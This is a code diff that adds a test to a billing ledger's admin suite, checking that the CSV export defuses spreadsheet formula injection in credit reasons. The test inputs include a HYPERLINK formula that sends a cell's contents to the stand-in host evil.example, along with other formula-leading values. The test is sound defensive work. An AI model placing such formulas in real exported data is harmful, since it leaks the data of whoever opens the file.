@@ -186,6 +186,21 @@ function adminSuite(name: string, makeStores?: () => MadeStores) {
       const jsonl = await api('GET', `/ledger?account=${ACCOUNT}&format=jsonl`);
       expect(jsonl.text.trim().split('\n').map((l) => JSON.parse(l).model)).toContain(MODEL);
 
+      // A credit reason is free text: a formula in it must not come out live (OWASP CSV
+      // injection), while the credits' negative costs stay numbers.
+      const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+      for (const reason of [formula, '+1+1', '-2+3', '@SUM(A1)', '\tlead', '\rlead']) {
+        expect((await api('POST', `/accounts/${ACCOUNT}/credits`, { amountUsd: '0.25', reason })).status).toBe(201);
+      }
+      const exported = (await api('GET', `/ledger?account=${ACCOUNT}&format=csv`)).text;
+      expect(exported).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n`);
+      for (const cell of ['"\'+1+1"', '"\'-2+3"', '"\'@SUM(A1)"', '"\'\tlead"', '"\'\rlead"']) expect(exported).toContain(`,${cell}\n`);
+      expect(exported).not.toMatch(/(^|,)[=+@\t\r]/m);
+      const creditRows = exported.split('\n').filter((l) => l.includes(',credit,'));
+      expect(creditRows.length).toBeGreaterThanOrEqual(6);
+      // cost_usd of a credit: a plain negative number, unquoted.
+      for (const l of creditRows) expect(l).toMatch(/,-\d+(\.\d+)?,/);
+
       // Usage is the charges: the opening balance and other credits are no usage.
       const all = ((await api('GET', `/ledger?account=${ACCOUNT}&limit=1000`)).json.data as any[]).filter((e) => e.units.kind !== 'credit');
       const sum = all.reduce((s, e) => s + BigInt(Math.round(Number(e.costUsd) * 1e9)), 0n);
